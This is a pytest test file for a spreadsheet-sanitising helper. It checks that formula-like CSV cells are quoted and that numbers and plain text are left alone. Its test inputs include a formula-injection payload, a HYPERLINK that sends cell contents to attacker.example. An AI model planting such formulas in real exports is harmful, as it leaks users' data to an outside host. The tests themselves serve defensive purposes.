"""CSV cells made safe for spreadsheets: formula-like text quoted, numbers left alone."""

from __future__ import annotations

import pytest

from fhir_bridge.domain.spreadsheet import safe_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://attacker.example/?leak="&C2,"open")',
        "+cmd",
        "-1+1",
        "@SUM(A1)",
        "\tx",
        "\rx",
    ],
)
def test_formula_like_text_gets_a_leading_quote(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["-3", "+2.5", "-1e3", "MDD-01", "", "on-study", "2023-01-09"])
def test_numbers_and_plain_text_stay_as_they_are(text: str) -> None:
    assert safe_cell(text) == text
